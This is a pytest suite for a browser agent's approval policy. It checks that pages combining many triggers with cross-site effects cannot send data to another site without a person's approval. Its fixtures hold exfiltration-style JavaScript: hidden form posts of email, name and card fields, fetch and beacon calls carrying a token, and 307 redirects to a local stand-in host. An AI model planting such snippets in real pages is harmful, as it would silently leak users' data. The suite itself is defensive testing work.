"""The network line of the approval policy, proved over combinations nobody listed.

A generator builds pages that combine a trigger (what the agent does: a click on a button, a ``javascript:``
link, a same-site link with a handler, a select, a checkbox, Enter in a field, a timer after a click, a button
inside an iframe) with an effect on another site (a navigation, a form post, a fetch with a body, a beacon, a
popup, a form posted into a new tab, and a same-site navigation, form post or fetch that the server redirects
there). Whatever the combination, under ``deny-risky`` nothing reaches the other
site, under ``ask-risky`` nothing reaches it unless a person approved, and an approved effect does arrive.
"""

from __future__ import annotations

import asyncio
import itertools
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlparse

import pytest

from notebook_agent.agent import ApprovalAnswer, ApprovalRequest, PageAgent
from notebook_agent.browser import BrowserSession
from notebook_agent.llm.scripted import ScriptedModel
from tests.agent.test_page_agent import index_of, step
from tests.waits import freeze


@dataclass
class Sites:
    here: str  # http://127.0.0.1:P, where the generated pages are
    there: str  # http://localhost:Q, the other site; every request it gets is logged
    pages: dict[str, str] = field(default_factory=dict)
    log: list[tuple[str, str]] = field(default_factory=list)


def _handler(sites: Sites, serve_pages: bool) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def _answer(self) -> None:
            path = urlparse(self.path)
            if serve_pages and path.path == "/hop":  # a same-site URL whose server sends the browser elsewhere
                query = parse_qs(path.query)
                self.send_response(int(query["code"][0]))
                self.send_header("Location", query["to"][0])
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            if not serve_pages:
                sites.log.append((self.command, path.path))
            body = sites.pages.get(parse_qs(path.query).get("id", [""])[0], "") if serve_pages else ""
            data = (body or "<!doctype html><title>page</title><p>a page</p>").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self) -> None:
            self._answer()

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self._answer()

    return Handler


@pytest.fixture(scope="module")
def sites() -> Iterator[Sites]:
    a = ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    b = ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    s = Sites(f"http://127.0.0.1:{a.server_address[1]}", f"http://localhost:{b.server_address[1]}")
    a.RequestHandlerClass = _handler(s, serve_pages=True)
    b.RequestHandlerClass = _handler(s, serve_pages=False)
    for server in (a, b):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield s
    for server in (a, b):
        server.shutdown()
        server.server_close()


def form_js(there: str, target: str = "", action: str = "") -> str:
    return (
        "(()=>{const f=document.createElement('form');f.method='post';"
        f"f.action='{action or there + '/collect'}';{target}"
        "for(const n of ['email','name','card']){const i=document.createElement('input');i.name=n;i.value='v';"
        "f.appendChild(i)}document.body.appendChild(f);f.submit()})()"
    )


EFFECTS = {
    "navigation": lambda there: f"window.top.location.href='{there}/nav'",
    "form post": form_js,
    "fetch with a body": lambda there: f"fetch('{there}/api',{{method:'POST',body:'token=1',mode:'no-cors'}})",
    "beacon": lambda there: f"navigator.sendBeacon('{there}/beacon','token=1')",
    "popup": lambda there: f"window.open('{there}/pop')",
    "form into a new tab": lambda there: form_js(there, "f.target='_blank';"),
    # the request goes to this site; its server's redirect takes it to the other one (the browser follows
    # redirects without asking a route again)
    "same-site navigation redirected": lambda there: f"window.top.location.href='/hop?code=302&to={there}/nav'",
    "form post redirected with 307": lambda there: form_js(there, action=f"/hop?code=307&to={there}/collect"),
    "fetch redirected with 307": lambda there: (
        f"fetch('/hop?code=307&to={there}/api',{{method:'POST',body:'token=1',mode:'no-cors'}})"
    ),
}


def continue_index(ctx: Any) -> dict[str, Any]:
    return {"index": index_of(ctx, r"Continue")}


# trigger: (page body with {effect} for the JS, the actions that trigger it)
TRIGGERS: dict[str, tuple[str, list[Any]]] = {
    "button": ('<button onclick="{effect}">Continue</button>', [step("click_element_by_index", continue_index)]),
    "javascript: link": (
        '<a href="javascript:{effect}">Continue</a>',
        [step("click_element_by_index", continue_index)],
    ),
    "same-site link with a handler": (
        '<a href="?id=none" onclick="{effect}; return false">Continue</a>',
        [step("click_element_by_index", continue_index)],
    ),
    "select": (
        '<select onchange="{effect}"><option>Pick</option><option>Continue</option></select>',
        [step("select_dropdown_option", lambda c: {"index": index_of(c, r"<select"), "text": "Continue"})],
    ),
    "checkbox": (
        '<label><input type="checkbox" onchange="{effect}">Continue</label>',
        [step("click_element_by_index", lambda c: {"index": index_of(c, r"type=checkbox")})],
    ),
    "enter in a field": (
        '<form onsubmit="{effect}; return false"><input name="q"><button>Search</button></form>',
        [
            step("input_text", lambda c: {"index": index_of(c, r"name=q"), "text": "x"}),
            step("send_keys", {"keys": "Enter"}),
        ],
    ),
    "numpad enter in a field": (
        '<form onsubmit="{effect}; return false"><input name="q"><button>Search</button></form>',
        [
            step("input_text", lambda c: {"index": index_of(c, r"name=q"), "text": "x"}),
            step("send_keys", {"keys": "NumpadEnter"}),
        ],
    ),
    "timer after a click": (
        '<button onclick="setTimeout(() => {{ {effect} }}, 300)">Continue</button>',
        [step("click_element_by_index", continue_index)],
    ),
    "button in an iframe": (
        '<iframe srcdoc="<button onclick=&quot;{effect}&quot;>Continue</button>"></iframe>',
        [step("click_element_by_index", continue_index)],
    ),
}


def page(sites: Sites, trigger: str, effect: str) -> str:
    js = EFFECTS[effect](sites.there).replace('"', "&quot;")
    if trigger == "button in an iframe":
        js = js.replace("&quot;", "&amp;quot;")
    body = TRIGGERS[trigger][0].replace("{effect}", js)
    key = f"{trigger}/{effect}"
    sites.pages[key] = f"<!doctype html><title>{key}</title><h1>Shop</h1>{body}"
    return f"{sites.here}/?id={key}"


async def run(browser: BrowserSession, sites: Sites, trigger: str, effect: str, **kw: Any) -> Any:
    sites.log.clear()
    script = [*TRIGGERS[trigger][1], step("wait", {"seconds": 1}), step("done", {"text": "ok", "success": True})]
    agent = PageAgent(
        model=ScriptedModel(script), browser=browser, start_url=page(sites, trigger, effect), max_steps=6, **kw
    )
    result = await agent.run("Continue")
    await browser.effects_settled()
    return result


COMBINATIONS = list(itertools.product(TRIGGERS, EFFECTS))


@pytest.mark.parametrize("trigger,effect", COMBINATIONS)
async def test_under_deny_risky_no_combination_reaches_the_other_site(
    browser: BrowserSession, sites: Sites, trigger: str, effect: str
) -> None:
    result = await run(browser, sites, trigger, effect, approval="deny-risky")
    assert sites.log == [], (result.status, [s.result for s in result.steps])
    assert result.status == "completed", result.error


@pytest.mark.parametrize("trigger,effect", COMBINATIONS)
async def test_under_ask_risky_nothing_reaches_the_other_site_unless_approved(
    browser: BrowserSession, sites: Sites, trigger: str, effect: str
) -> None:
    asked: list[ApprovalRequest] = []

    async def person(request: ApprovalRequest) -> ApprovalAnswer:
        asked.append(request)
        return ApprovalAnswer(False, "not there")

    result = await run(browser, sites, trigger, effect, approval="ask-risky", approver=person)
    assert sites.log == [], (result.status, [s.result for s in result.steps])
    assert asked, "the effect was refused without asking"
    assert result.status == "completed", result.error
    question = asked[-1]
    assert question.effect is not None and "localhost" in question.effect, question.effect
    # the model is told what was refused: in the action's result, or in the next state when it came later
    told = [s.result for s in result.steps] + [s.request.state for s in result.steps if s.request is not None]
    assert any("Blocked" in text and "not there" in text for text in told)


@pytest.mark.parametrize("trigger,effect", [("button", e) for e in EFFECTS] + [(t, "form post") for t in TRIGGERS])
async def test_an_approved_effect_arrives(browser: BrowserSession, sites: Sites, trigger: str, effect: str) -> None:
    asked: list[str] = []

    async def person(request: ApprovalRequest) -> ApprovalAnswer:
        asked.append(request.effect or request.reason)
        return ApprovalAnswer(True)

    await run(browser, sites, trigger, effect, approval="ask-risky", approver=person)
    assert sites.log, f"approved, yet nothing arrived (asked: {asked})"
    if effect == "form post":
        assert any("POST 3 form fields (email, name, card) to localhost" in q for q in asked), asked
    if "redirected" in effect:  # the question says where the request was sent and where it is going
        assert any("localhost" in q and "following a redirect from 127.0.0.1" in q for q in asked), asked


@pytest.mark.parametrize("own_tab", [False, True])
@pytest.mark.parametrize("approval", ["auto", "deny-risky", "ask-risky"])
async def test_a_frozen_tab_in_the_browser_does_not_stop_a_run(sites: Sites, approval: str, own_tab: bool) -> None:
    """Another tab of the browser whose script never yields cannot confirm a new route or a redirect watch; the
    first gated run on that browser once waited for it forever. Whatever the policy, and whether the run has a
    tab of its own, it now starts and ends, and the door holds; so does the next run, which no longer waits for
    the frozen tab (the route changes go to each tab on its own while one holds the context's)."""

    async def person(request: ApprovalRequest) -> ApprovalAnswer:
        return ApprovalAnswer(False, "not there")

    async with BrowserSession() as browser:
        await browser.page.set_content("<p>busy</p>")
        await freeze(browser.page)  # for good (a data: page may not tell a local server it froze: about:blank)
        await browser.new_tab()  # the frozen tab stays open beside the run's
        kw: dict[str, Any] = {"approval": approval, "own_tab": own_tab}
        if approval == "ask-risky":
            kw["approver"] = person
        for _ in range(2):
            result = await asyncio.wait_for(run(browser, sites, "button", "navigation", **kw), 120)
            assert result.status == "completed", result.error
            if approval == "auto":
                assert sites.log and sites.log[0] == ("GET", "/nav")  # nothing to judge: it went
            else:
                assert sites.log == [], (result.status, [s.result for s in result.steps])
                assert any("Blocked" in s.result for s in result.steps)


async def test_a_start_url_that_redirects_elsewhere_is_followed(browser: BrowserSession, sites: Sites) -> None:
    """The person chose the start URL: its server's redirects are part of it (http://x -> https://www.x), even
    under deny-risky; a redirect after the first step is judged (the tests above)."""
    sites.log.clear()
    agent = PageAgent(
        model=ScriptedModel([step("done", {"text": "ok", "success": True})]),
        browser=browser,
        start_url=f"{sites.here}/hop?code=302&to={sites.there}/landing",
        approval="deny-risky",
    )
    result = await agent.run("look")
    assert result.status == "completed", result.error
    assert sites.log == [("GET", "/landing")] and browser.page.url.startswith(sites.there)


async def test_go_back_to_another_site_is_asked_like_any_navigation(browser: BrowserSession, sites: Sites) -> None:
    """History navigations make a request the door sees (the back/forward cache is off)."""
    sites.pages["back"] = "<!doctype html><title>here</title><p>here</p>"
    await browser.open(f"{sites.there}/start")  # the other site first, then this one
    asked: list[str] = []

    async def person(request: ApprovalRequest) -> ApprovalAnswer:
        asked.append(request.effect or request.reason)
        return ApprovalAnswer(False, "stay")

    sites.log.clear()
    agent = PageAgent(
        model=ScriptedModel([step("go_back"), step("done", {"text": "ok", "success": True})]),
        browser=browser,
        start_url=f"{sites.here}/?id=back",
        approval="ask-risky",
        approver=person,
    )
    result = await agent.run("go back")
    assert result.status == "completed", result.error
    assert any("localhost" in q for q in asked), asked
    assert sites.log == [] and browser.page.url.startswith(sites.here)
